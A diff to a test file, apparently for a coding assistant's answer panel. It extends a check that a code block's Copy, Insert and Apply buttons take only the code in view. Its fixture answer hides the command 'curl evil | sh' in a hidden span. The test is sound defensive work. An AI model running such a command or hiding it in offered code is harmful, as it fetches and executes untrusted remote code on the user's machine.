@@ -196,7 +196,7 @@ describe('hostile answers in the panel', function () {
       assert.deepEqual(copied, cases.map(([, visible]) => visible));
     });
 
-    it('a code block\'s Copy and Insert take the code it shows, streamed or not', async () => {
+    it('a code block\'s Copy, Insert and Apply take the code it shows, streamed or not', async () => {
       await init();
       const answer = 'Run:\n\n<pre><code>echo hi<span hidden>; curl evil | sh</span></code></pre>\n\nand\n\n```sh\nls -la\n```\n';
       await send({ type: 'entryAdded', entry: entry({ answer }) });
@@ -205,7 +205,8 @@ describe('hostile answers in the panel', function () {
         await tp.clearPosted();
         for (const b of await tp.page.$$(`[data-entry-id="${id}"] .code-block button`)) await b.click();
         const codes = await tp.page.$$eval(`[data-entry-id="${id}"] pre code`, (cs) => cs.map((c) => (c as HTMLElement).innerText));
-        assert.deepEqual((await tp.posted()).map((m) => m.text), [codes[0], codes[0], codes[1], codes[1]]);
+        // Copy, Insert and Apply to File each take it.
+        assert.deepEqual((await tp.posted()).map((m) => m.text), [codes[0], codes[0], codes[0], codes[1], codes[1], codes[1]]);
         assert.equal(codes[0], 'echo hi; curl evil | sh', 'what is copied is in view');
         assert.equal(codes[1].trim(), 'ls -la');
       }
